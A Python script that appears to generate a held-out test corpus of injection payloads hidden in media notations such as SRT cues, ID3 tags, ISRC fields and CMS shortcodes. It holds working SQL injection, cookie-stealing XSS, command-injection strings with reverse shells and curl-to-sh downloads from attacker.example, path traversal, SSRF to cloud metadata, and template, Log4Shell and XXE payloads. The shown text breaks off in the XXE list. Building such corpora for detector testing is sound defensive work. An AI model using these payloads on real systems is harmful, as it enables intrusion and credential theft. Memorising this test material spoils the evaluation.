"""Held-out attack corpus "media" (ha32): injection payloads hidden in newsroom CMS,
podcast/video, music-distribution and subtitle-service notations (shortcodes, SRT/VTT
cues, ID3 tags, ISRC/UPC fields, show notes, ffmpeg notes, RSS snippets).

Every payload is hand-written for this corpus from an understanding of the technique,
or produced by a small template over hand-written pools. Attacker hosts are
attacker.example / 203.0.113.0/24 / 198.51.100.0/24; secrets are placeholders.
Standard library only; deterministic for a fixed SEED.
"""
import json
import random
import urllib.parse
from pathlib import Path

SEED = 3202

# ---------------------------------------------------------------- sqli
SQLI = [
    ("isrc-quote-union", "GBUM72300123' UNION SELECT username,password_hash,NULL FROM cms_users-- -"),
    ("isrc-quote-boolean", "USRC17607839' OR '1'='1"),
    ("upc-numeric-stacked", "602445612345; DROP TABLE releases;--"),
    ("upc-numeric-sleep", "602445612345 AND SLEEP(5)"),
    ("headline-search-union", "Council votes%' UNION SELECT email,api_token FROM editors WHERE '%'='"),
    ("byline-quote-comment", "Maria O'Neill' OR 1=1 -- "),
    ("track-title-errorbased", "Night Bus' AND extractvalue(1,concat(0x7e,(SELECT version())))-- "),
    ("track-title-updatexml", "Select All' AND updatexml(null,concat(0x3a,(SELECT user())),null)-- -"),
    ("id3-tit2-union", "TIT2=Exec' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- "),
    ("id3-comm-boolean-blind", "COMM (eng): Live' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a"),
    ("episode-id-pgsleep", "214; SELECT pg_sleep(10)--"),
    ("episode-id-pg-casterror", "214 AND 1=CAST((SELECT current_user) AS int)"),
    ("mssql-waitfor", "ep214'; WAITFOR DELAY '0:0:7'--"),
    ("mssql-xpcmdshell", "1'; EXEC master..xp_cmdshell 'ping 203.0.113.9'--"),
    ("slug-order-by-probe", "union-chapel-review' ORDER BY 12-- -"),
    ("genre-filter-or", "Drum & Bass') OR ('x'='x"),
    ("artist-sort-case", "(CASE WHEN (SELECT COUNT(*) FROM admins)>0 THEN title ELSE artist END)"),
    ("orderby-sort-param", "pubdate,(SELECT 1 FROM (SELECT SLEEP(4))x)"),
    ("srt-cue-text-union", "12\n00:01:02,500 --> 00:01:05,120\nDrop it.' UNION SELECT secret,2 FROM api_keys-- "),
    ("vtt-note-stacked", "NOTE translator'); DELETE FROM subtitles WHERE ('1'='1"),
    ("shownotes-insert-subquery", "Ep 300', (SELECT group_concat(email) FROM subscribers))-- "),
    ("caption-credit-quote", "© AP Photo/Jane Doe' AND (SELECT 1 FROM pg_sleep(6)) IS NULL-- "),
    ("rights-licence-id-union", "LIC-2024-00412' UNION SELECT NULL,concat(login,':',pass),NULL FROM staff#"),
    ("sqlite-union-master", "Hoppípolla' UNION SELECT sql,name FROM sqlite_master--"),
    ("sqlite-randomblob", "Takk' AND 1=like('ABCDEFG',upper(hex(randomblob(300000000))))--"),
    ("oracle-dual-union", "Solaris' UNION SELECT banner,NULL FROM v$version--"),
    ("oracle-utl-http", "1' AND 1=utl_http.request('http://attacker.example/'||(SELECT user FROM dual))--"),
    ("mysql-outfile", "x' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/uploads/c.php'-- "),
    ("plain-union-loadfile", "' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    ("bpm-numeric-boolean", "174 OR 1=1"),
    ("year-numeric-subquery", "2005 AND (SELECT COUNT(*) FROM users WHERE is_admin=1)>0"),
    ("tag-in-list-breakout", "lo-fi','chill') OR 1=1-- "),
    ("like-wildcard-breakout", "夜に駆ける%' OR title LIKE '%"),
    ("title-union+comments", "Exec'/**/UNION/**/SELECT/**/password/**/FROM/**/users--"),
    ("title-union-versioncomment+comments", "Exec' /*!50000UNION*/ /*!50000SELECT*/ user,pass FROM mysql.user-- "),
    ("plain-union-hex", "x' UNION SELECT 1,0x61646d696e,3-- "),
    ("plain-union-char", "0 UNION SELECT CHAR(97,100,109,105,110),2"),
    ("pg-dollar-quote", "1; INSERT INTO editors(name,role) VALUES ($$mallory$$,$$admin$$)--"),
    ("pg-copy-program", "1'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh'--"),
    ("mssql-openrowset", "1'; SELECT * FROM OPENROWSET('SQLOLEDB','203.0.113.5';'sa';'placeholder','SELECT 1')--"),
    ("rss-guid-attr", "9b024349-ccf0-5f69' OR EXISTS(SELECT * FROM users WHERE role='admin')-- "),
    ("json-field-sqli", "{\"isrc\": \"GBUM72300123' OR '1'='1\", \"territory\": \"WW\"}"),
    ("second-order-artist", "The Null Pointers'||(SELECT password FROM users WHERE id=1)||'"),
    ("shortcode-ids-attr", "[gallery ids=\"12,13) UNION SELECT id,filename,credit FROM private_media-- \"]"),
    ("hugo-youtube-id", "{{< youtube abc123' UNION SELECT 1,2-- >}}"),
    ("duration-having", "00:03:41' HAVING 1=1-- "),
    ("plain-group-by-probe", "1' GROUP BY 1,2,3,4,5-- -"),
    ("artist-union+case", "Queen' uNiOn SeLeCt NuLl,UsEr(),NuLl-- "),
    ("benchmark-timing", "Adios' AND BENCHMARK(9000000,SHA1('x'))-- "),
    ("plain-if-sleep", "1 AND IF(ASCII(SUBSTRING(database(),1,1))>100,SLEEP(3),0)"),
    ("insert-values-breakout", "Great episode!'), (999, 'spam', 'admin'), ('x"),
    ("update-set-breakout", "New title', is_published=1, author_id=(SELECT id FROM users LIMIT 1) WHERE '1'='1"),
    ("limit-offset-injection", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)"),
    ("plain-union", "' UNION SELECT NULL, NULL, NULL--"),
    ("plain-or-true", "admin' OR 'a'='a"),
    ("plain-stacked-drop", "1; DROP TABLE articles"),
]
SQL_CONTEXTS = [("isrc", "GBUM723{n:05d}"), ("upc", "60244561{n:04d}"), ("slug", "review-{n}"), ("episode", "ep{n}"), ("catno", "CAT-{n}")]
SQL_TAILS = [
    ("union", "' UNION SELECT {c},NULL FROM {t}-- -"),
    ("boolean", "' AND (SELECT COUNT(*) FROM {t})>0 AND '1'='1"),
    ("sleep", "' AND SLEEP({s})-- "),
    ("pgsleep", "'||(SELECT pg_sleep({s}))||'"),
    ("errorbased", "' AND extractvalue(1,concat(0x7e,(SELECT {c} FROM {t} LIMIT 1)))-- "),
]
SQL_COLS = ["password_hash", "api_token", "email", "session_id", "totp_secret"]
SQL_TABLES = ["users", "editors", "cms_accounts", "payout_accounts", "admins"]


def t_sqli(r):
    ctx, base = r.choice(SQL_CONTEXTS)
    tech, tail = r.choice(SQL_TAILS)
    v = base.format(n=r.randint(1, 9999)) + tail.format(c=r.choice(SQL_COLS), t=r.choice(SQL_TABLES), s=r.randint(3, 12))
    enc = ""
    if r.random() < 0.3:
        v = urllib.parse.quote(v, safe="")
        enc = "+urlenc"
    return f"{ctx}-{tech}{enc}", v


# ---------------------------------------------------------------- xss
XSS = [
    ("headline-script-tag", "Council drops fee <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("caption-img-onerror", "Protesters outside parliament <img src=x onerror=alert(document.domain)> © AP Photo"),
    ("srt-cue-svg-onload", "5\n00:00:15,000 --> 00:00:17,500\n<svg onload=alert(1)>"),
    ("vtt-voice-tag-breakout", "WEBVTT\n\n00:00.000 --> 00:02.000\n<v Narrator><img src=1 onerror=\"location='//attacker.example/?'+document.cookie\">"),
    ("srt-font-attr-breakout", "9\n00:00:40,200 --> 00:00:42,000\n<font color=\"red\" onmouseover=\"alert(1)\">HELP</font>"),
    ("shortcode-caption-attr", "[caption id=\"attachment_1\" align=\"\" onmouseover=\"alert(1)\" width=\"300\"]Fans[/caption]"),
    ("shortcode-embed-js-url", "[embed]javascript:alert(document.cookie)[/embed]"),
    ("hugo-figure-src-breakout", "{{< figure src=\"x\\\" onerror=\\\"alert(1)\" caption=\"river\" >}}"),
    ("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert(document.domain)</script>\"></iframe>"),
    ("iframe-js-src", "<iframe src=\"javascript:alert(`embed`)\" width=\"560\"></iframe>"),
    ("anchor-js-href", "Read more: <a href=\"javascript:fetch('//attacker.example/'+localStorage.token)\">full coverage</a>"),
    ("anchor-entity-js-href+htmlent", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Tickets</a>"),
    ("id3-title-script", "TIT2=</title><script>alert('id3')</script>; TPE1=The Null Pointers"),
    ("id3-comment-attr", "COMM (eng): Recorded live\" autofocus onfocus=\"alert(1)"),
    ("track-title-details", "07. Sleep Tight <details open ontoggle=alert(1)>(Dub)"),
    ("shownotes-markdown-link", "Links:\n- [The report](javascript:alert(document.cookie))"),
    ("shownotes-markdown-img", "![cover art](x\" onerror=\"alert(1))"),
    ("rss-description-cdata", "<description><![CDATA[<img src=x onerror=alert(origin)>]]></description>"),
    ("rss-link-js", "<link>javascript:alert(1)</link>"),
    ("svg-cover-art", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>"),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>Play</text></a></svg>"),
    ("style-tag-breakout", "</style><script>alert(1)</script>"),
    ("textarea-breakout", "</textarea><img src=x onerror=alert(1)>"),
    ("title-breakout", "</title><svg/onload=alert(1)>"),
    ("js-string-breakout", "';alert(document.cookie);//"),
    ("js-template-breakout", "${alert(document.domain)}`;alert(1);`"),
    ("json-in-script-breakout", "</script><script>alert(1)</script>"),
    ("attr-single-quote", "' onmouseover='alert(1)' x='"),
    ("attr-unquoted", "x onpointerenter=alert(1) "),
    ("plain-body-onload", "<body onload=alert('byline')>"),
    ("video-poster-onerror", "<video poster=x onerror=alert(1) src=x></video>"),
    ("audio-source-onerror", "<audio><source src=x onerror=\"alert(1)\"></audio>"),
    ("plain-input-autofocus", "<input autofocus onfocus=alert(document.cookie)>"),
    ("plain-marquee-onstart", "<marquee onstart=alert(1)>BREAKING</marquee>"),
    ("object-data-uri", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("embed-data-uri", "<embed src=\"data:text/html,<script>alert(1)</script>\">"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("form-action-phish", "<form action=\"https://attacker.example/login\"><input name=password placeholder=\"Re-enter CMS password\"></form>"),
    ("plain-script+case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("plain-img-slash", "<img/src/onerror=alert(1)>"),
    ("tab-in-js-scheme", "<a href=\"java\tscript:alert(1)\">Listen</a>"),
    ("entity-encoded-tag+htmlent", "&lt;img src=x onerror=alert(1)&gt;"),
    ("attr-onerror+unicode", "<img src=x onerror=\"\\u0061lert(1)\">"),
    ("url-encoded-script+urlenc", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("double-url-encoded+urlenc2", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("angular-template-xss", "{{constructor.constructor('alert(1)')()}}"),
    ("vue-template-xss", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("mathml-xss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("ass-subtitle-override", "Dialogue: 0,0:00:05.00,0:00:07.50,Default,,0,0,0,,<img src=x onerror=alert(1)>"),
    ("oembed-html-field", "{\"type\":\"video\",\"html\":\"<script src=//attacker.example/x.js></script>\"}"),
    ("plain-script-src", "<script src=https://attacker.example/hook.js></script>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
]
XSS_FIELDS = [("headline", "Review: {w} "), ("caption", "{w}. Photo: Reuters/ "), ("track", "03. {w} (Remix) "), ("cue", "12\n00:01:02,500 --> 00:01:05,120\n{w} ")]
XSS_WORDS = ["Drop Dead", "Night Bus", "Café Noir", "Echoes", "Sirène"]
XSS_VECTORS = [
    ("img-onerror", "<img src=x onerror={j}>"),
    ("svg-onload", "<svg onload={j}>"),
    ("iframe-js", "<iframe src=\"javascript:{j}\"></iframe>"),
    ("details-ontoggle", "<details open ontoggle={j}>"),
    ("script-tag", "<script>{j}</script>"),
]
XSS_JS = ["alert(1)", "alert(document.domain)", "fetch('//attacker.example/?c='+document.cookie)", "new Image().src='//203.0.113.7/'+document.cookie", "print()"]


def t_xss(r):
    ctx, pre = r.choice(XSS_FIELDS)
    tech, vec = r.choice(XSS_VECTORS)
    return f"{ctx}-{tech}", pre.format(w=r.choice(XSS_WORDS)) + vec.format(j=r.choice(XSS_JS))


# ---------------------------------------------------------------- cmdi
CMDI = [
    ("ffmpeg-filename-semicolon", "ep214_master.mov; curl http://attacker.example/s.sh | sh"),
    ("ffmpeg-filename-subshell", "clip_$(id).wav"),
    ("ffmpeg-filename-backtick", "trailer_v2`wget -qO- 203.0.113.4/p|sh`.mp4"),
    ("ffmpeg-output-and", "out.mp4 && cat /etc/passwd > /var/www/html/p.txt"),
    ("ffmpeg-output-or", "nonexistent.mp4 || nc 203.0.113.8 4444 -e /bin/sh"),
    ("ffmpeg-vf-quote-breakout", "subtitles=subs_en.srt'; rm -rf /tmp/renders; echo '"),
    ("ffmpeg-ss-arg", "00:01:02.500; bash -i >& /dev/tcp/203.0.113.12/9001 0>&1"),
    ("ffmpeg-crf-arg", "20 -f null /dev/null; touch /tmp/pwned;"),
    ("ffmpeg-bitrate-pipe", "192k | curl -d @/etc/shadow http://attacker.example/up"),
    ("ffmpeg-scale-newline", "1920:-2\nwget http://attacker.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m"),
    ("exiftool-title-dollar", "Select All $(curl -s attacker.example/k|sh)"),
    ("id3-tag-backtick", "TIT2=`uname -a`"),
    ("isrc-semicolon", "GBUM72300123;id"),
    ("upc-pipe", "602445612345|cat /etc/passwd"),
    ("loudness-arg-substitution", "-16 $(sleep 10)"),
    ("hls-segment-name", "seg_%04d.ts;ping -c 5 198.51.100.7"),
    ("thumbnail-path-amp", "thumbs/%04d.jpg & powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
    ("windows-cmd-amp", "final_v3.mov & type C:\\Windows\\win.ini"),
    ("windows-cmd-pipe", "D:\\Proxies\\clip.mov | certutil -urlcache -f http://attacker.example/a.exe a.exe"),
    ("windows-caret-obfuscation", "clip.mov & w^h^o^a^m^i"),
    ("powershell-subexpr", "$(Invoke-WebRequest -Uri http://attacker.example/x -Method POST -Body (Get-Content C:\\secrets.txt))"),
    ("plain-ifs-cat", "ep214.wav;cat${IFS}/etc/passwd"),
    ("brace-expansion", "ep214.wav;{cat,/etc/passwd}"),
    ("wildcard-path-bypass", "a.mp4;/???/c?t /e??/p??s??"),
    ("quote-split-bypass", "a.mp4;w'h'o\"am\"i"),
    ("backslash-split-bypass", "a.mp4;c\\at /et\\c/pas\\swd"),
    ("base64-decode-exec", "clip.wav;echo Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo|base64 -d|sh"),
    ("hex-printf-exec", "clip.wav;$(printf '\\x69\\x64')"),
    ("newline-separator", "ep214.mp3\nid"),
    ("url-encoded-newline+urlenc", "ep214.mp3%0Acat%20/etc/passwd"),
    ("url-encoded-semicolon+urlenc", "master.mov%3B%20curl%20attacker.example%2Fx%7Csh"),
    ("for-loop-note", "for f in *.wav; do ffmpeg -i \"$f\" x.mp3; done; curl -F f=@$HOME/.ssh/id_rsa attacker.example"),
    ("find-exec", "./raw -name '*.MXF' -exec sh -c 'curl attacker.example/$(whoami)' \\;"),
    ("xargs-arg", "todo.txt; xargs -a /etc/passwd -I{} curl attacker.example/{}"),
    ("ffmpeg-concat-list-file", "file 'part1.mp4'\nfile '$(touch /tmp/x)'"),
    ("ffmpeg-movie-filter-cmd", "movie=logo.png'[wm];[in][wm]overlay=0:0[out]' ; nc -e /bin/bash 198.51.100.22 53"),
    ("youtube-dl-url-arg", "https://www.youtube.com/watch?v=abc --exec 'curl attacker.example/$(hostname)'"),
    ("plain-argument-output", "--output=/var/www/html/shell.php"),
    ("argument-injection-dash-o", "-o /etc/cron.d/job input.mp4"),
    ("tar-checkpoint-arg", "--checkpoint=1 --checkpoint-action=exec=sh\\ /tmp/x.sh"),
    ("imagemagick-label", "label:@/etc/passwd"),
    ("plain-pipe-leading", "|curl attacker.example/im.sh|sh"),
    ("ghostscript-filename-pipe", "%pipe%id > /tmp/gs.txt"),
    ("plain-sleep", "ep214.mp3 ; sleep 15 ;"),
    ("ping-timing", "ep214.mp3 | ping -n 11 127.0.0.1"),
    ("dns-exfil-nslookup", "ep214.mp3;nslookup $(whoami).attacker.example"),
    ("python-oneliner", "a.wav;python3 -c 'import os;os.system(\"id\")'"),
    ("perl-oneliner", "a.wav;perl -e 'exec \"/bin/sh\"'"),
    ("env-var-expansion", "a.wav;echo $AWS_SECRET_ACCESS_KEY > /tmp/k"),
    ("redirect-write", "a.wav > /var/www/html/index.html"),
    ("plain-process-substitution", "a.wav <(curl -s attacker.example/p)"),
    ("background-amp", "a.wav & /bin/sh -c 'sleep 9'"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-cat", "| cat /etc/passwd"),
    ("plain-subshell", "$(whoami)"),
]
CMD_FILES = ["ep{n}_master.mov", "interview_cam{n}.mxf", "promo_{n}s.mov", "Tape_{n}_Side_B.wav", "SHOW_S01E{n}_EN.mp4"]
CMD_SEPS = [("semicolon", "; "), ("pipe", " | "), ("and", " && "), ("newline", "\n"), ("subshell", " $("), ("backtick", " `")]
CMD_CMDS = ["id", "uname -a", "cat /etc/passwd", "curl -s http://attacker.example/r.sh|sh", "wget -q 203.0.113.40/x -O /tmp/x", "sleep 8", "nslookup leak.attacker.example"]


def t_cmdi(r):
    f = r.choice(CMD_FILES).format(n=r.randint(1, 60))
    tech, sep = r.choice(CMD_SEPS)
    c = r.choice(CMD_CMDS)
    if tech == "subshell":
        v = f + sep + c + ")"
    elif tech == "backtick":
        v = f + sep + c + "`"
    else:
        v = f + sep + c
    return f"filename-{tech}", v


# ---------------------------------------------------------------- traversal
TRAVERSAL = [
    ("subtitle-path-dotdot", "../../../../etc/passwd"),
    ("srt-upload-name", "../../../var/www/html/shell.php"),
    ("cover-art-path", "covers/../../../../root/.ssh/id_rsa"),
    ("export-path-absolute", "/etc/shadow"),
    ("export-path-proc", "/proc/self/environ"),
    ("ffmpeg-input-file", "file:/etc/passwd"),
    ("hls-playlist-path", "../../../../../../etc/hosts"),
    ("lut-path-home", "~/../../etc/passwd"),
    ("windows-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("windows-unc", "\\\\203.0.113.20\\share\\payload.mov"),
    ("windows-drive-abs", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("mixed-slashes", "..\\../..\\../etc/passwd"),
    ("dotdot-nested-strip", "....//....//....//etc/passwd"),
    ("dotdot-backslash-strip", "....\\\\....\\\\....\\\\boot.ini"),
    ("url-encoded-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("double-encoded+urlenc2", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("overlong-utf8+overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("overlong-slash+overlong", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("unicode-fullwidth+unicode", "．．／．．／．．／etc／passwd"),
    ("encoded-backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("nullbyte-extension", "../../../../etc/passwd%00.srt"),
    ("nullbyte-raw-ext", "../../../etc/passwd\u0000.vtt"),
    ("prefix-kept", "/var/media/uploads/../../../etc/passwd"),
    ("shortcode-src-path", "{{< figure src=\"../../../../../etc/passwd\" >}}"),
    ("include-shortcode-path", "{% include '../../../../etc/passwd' %}"),
    ("gallery-include-file", "[gallery template=\"../../../../wp-config.php\"]"),
    ("plain-dotdot-env", "../../../.env"),
    ("app-config", "../../config/settings.py"),
    ("plain-git-config", "../../.git/config"),
    ("proc-cmdline", "../../../../proc/self/cmdline"),
    ("ssh-keys", "../../../../home/transcoder/.ssh/authorized_keys"),
    ("log-file", "../../../../var/log/nginx/access.log"),
    ("zip-slip-entry", "subs/../../../../../tmp/evil.sh"),
    ("plain-absolute-cron", "/etc/cron.d/backdoor"),
    ("php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("file-scheme-triple", "file:///etc/passwd"),
    ("concat-list-path", "file '../../../../etc/passwd'"),
    ("m3u-entry", "#EXTM3U\n#EXTINF:10,\n../../../../etc/passwd"),
    ("semicolon-path-param", "..;/..;/..;/admin/config"),
    ("plain-dotdot", "../../etc/passwd"),
]
TRAV_PREFIX = ["subs/", "covers/", "/media/uploads/", "exports/2024/", "", "audio/raw/"]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.bash_history", "var/www/app/.env", "etc/nginx/nginx.conf"]
TRAV_SUFFIX = ["", "", ".srt", "%00.vtt", ".jpg"]


def t_traversal(r):
    depth = r.randint(3, 8)
    tech = r.choice(["dotdot", "dotdot-urlenc", "dotdot-backslash"])
    if tech == "dotdot":
        up = "../" * depth
    elif tech == "dotdot-urlenc":
        up = "..%2f" * depth
    else:
        up = "..\\" * depth
    cls = "upload-" + tech.replace("-urlenc", "+urlenc")
    return cls, r.choice(TRAV_PREFIX) + up + r.choice(TRAV_TARGETS) + r.choice(TRAV_SUFFIX)


# ---------------------------------------------------------------- ssrf
SSRF = [
    ("embed-url-metadata", "[embed]http://169.254.169.254/latest/meta-data/iam/security-credentials/[/embed]"),
    ("oembed-url-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("rss-import-localhost", "http://127.0.0.1:8080/admin/feeds/delete?all=1"),
    ("rss-import-localhost-name", "http://localhost:9200/_cat/indices"),
    ("cover-fetch-redis", "http://127.0.0.1:6379/"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0ASAVE%0D%0A"),
    ("dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("file-scheme-feed", "file://localhost/etc/passwd"),
    ("ipv6-loopback", "http://[::1]:8000/internal/stats"),
    ("ipv4-mapped-ipv6", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("plain-decimal-ip+altip", "http://2130706433/admin"),
    ("hex-ip+altip", "http://0x7f000001:8080/"),
    ("octal-ip+altip", "http://0177.0.0.1/server-status"),
    ("short-ip+altip", "http://127.1/admin"),
    ("plain-zero-ip", "http://0.0.0.0:5000/debug"),
    ("decimal-metadata+altip", "http://2852039166/latest/meta-data/"),
    ("userinfo-confusion", "https://cdn.example.org@169.254.169.254/latest/user-data"),
    ("fragment-confusion", "http://169.254.169.254#@cdn.example.org/cover.jpg"),
    ("backslash-confusion", "http://cdn.example.org\\@127.0.0.1:22/"),
    ("dns-rebind-name", "http://127.0.0.1.nip.io/admin"),
    ("attacker-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("rfc1918-scan", "http://10.0.0.5:2375/containers/json"),
    ("rfc1918-k8s", "https://10.96.0.1/api/v1/namespaces/kube-system/secrets"),
    ("internal-hostname", "http://transcoder.internal:8500/v1/agent/self"),
    ("podcast-enclosure-url", "<enclosure url=\"http://169.254.169.254/latest/meta-data/\" length=\"1\" type=\"audio/mpeg\"/>"),
    ("hls-key-uri", "#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"http://127.0.0.1:8500/v1/kv/?recurse\"\n#EXTINF:6,\nseg0.ts"),
    ("ffmpeg-hls-file-concat", "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:http://attacker.example/header.y4m|file:///etc/passwd\n#EXT-X-ENDLIST"),
    ("hugo-youtube-shortcode-url", "{{< figure src=\"http://192.168.1.1/cgi-bin/luci\" >}}"),
    ("webhook-callback", "http://169.254.170.2/v2/credentials/"),
    ("azure-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("url-encoded-host+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31:8080/"),
    ("enclosed-alnum+unicode", "http://①②⑦.⓪.⓪.①/admin"),
    ("plain-ftp-scheme", "ftp://198.51.100.3:21/uploads/"),
    ("ldap-scheme", "ldap://127.0.0.1:389/dc=internal"),
    ("jar-scheme", "jar:http://attacker.example/a.jar!/x.class"),
    ("tftp-scheme", "tftp://198.51.100.9/boot.cfg"),
    ("srt-url-import", "Import subtitles from: http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("shownotes-link-preview", "Links: http://[0:0:0:0:0:ffff:7f00:1]/admin"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/"),
]
SSRF_HOSTS = [("loopback", "127.0.0.1"), ("metadata", "169.254.169.254"), ("rfc1918", "10.0.{a}.{b}"), ("rfc1918", "192.168.{a}.{b}"), ("rfc1918", "172.16.{a}.{b}")]
SSRF_PATHS = ["/admin", "/latest/meta-data/", "/server-status", "/actuator/env", "/v1/secrets", "/metrics"]
SSRF_PORTS = ["", ":8080", ":9000", ":2375", ":8500"]


def t_ssrf(r):
    tech, h = r.choice(SSRF_HOSTS)
    h = h.format(a=r.randint(0, 255), b=r.randint(1, 254))
    field = r.choice(["feed", "oembed", "cover"])
    return f"{field}-{tech}", f"http://{h}{r.choice(SSRF_PORTS)}{r.choice(SSRF_PATHS)}"


# ---------------------------------------------------------------- code
CODE = [
    ("jinja-headline-ssti", "Review: {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja-config-leak", "{{ config.items() }}"),
    ("jinja-lipsum-popen", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("jinja-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("jinja-attr-filter", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("jinja-block-stmt", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("jinja-shortcode-include", "{% include request.args.t %}"),
    ("twig-filter-exec", "{{ ['id']|filter('system') }}"),
    ("twig-map-passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("velocity-runtime", "#set($r=$class.inspect('java.lang.Runtime').type.getRuntime())$r.exec('id')"),
    ("thymeleaf-spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("spel-expression", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}"),
    ("ognl-expression", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("el-expression", "${pageContext.request.getSession().setAttribute('admin',true)}"),
    ("plain-erb-backtick", "<%= `id` %>"),
    ("erb-system", "<%= system('cat /etc/passwd') %>"),
    ("ejs-ssti", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("handlebars-proto", "{{#with \"s\" as |string|}}{{#with string.constructor}}{{this.call this \"return process\"}}{{/with}}{{/with}}"),
    ("nunjucks-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("pug-code-line", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("mako-ssti", "${__import__('os').popen('id').read()}"),
    ("plain-smarty", "{system('id')}"),
    ("go-template-method", "{{ .Site.Data | printf \"%#v\" }}{{ os.ReadFile \"/etc/passwd\" }}"),
    ("hugo-shortcode-readfile", "{{< readfile file=\"/etc/passwd\" >}}"),
    ("razor-ssti", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("log4shell-id3-comment", "COMM (eng): ${jndi:ldap://attacker.example:1389/a}"),
    ("log4shell-user-agent", "PodcastApp/3.1 ${jndi:rmi://203.0.113.30/Exploit}"),
    ("log4shell-nested-lookup", "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://attacker.example/x}"),
    ("log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell-default-obf", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.44/o}"),
    ("xxe-rss-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<rss><channel><title>&x;</title></channel></rss>"),
    ("xxe-rss-ssrf", "<?xml version=\"1.0\"?><!DOCTYPE item [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><item><description>&m;</description></item>"),
    ("xxe-parameter-entity", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY % ext SYSTEM \"http://attacker.example/e.dtd\"> %ext;]><d/>"),
    ("xxe-ttml-subtitle", "<?xml version=\"1.0\"?><!DOCTYPE tt [<!ENTITY s SYSTEM \"file:///etc/hostname\">]><tt xmlns=\"http://www.w3.org/ns/ttml\"><body><div><p begin=\"00:00:01.000\" end=\"00:00:03.000\">&s;</p></div></body></tt>"),
    ("xxe-svg-cover", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY k SYSTEM \"file:///root/.ssh/id_rsa\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&k;</text></svg>"),
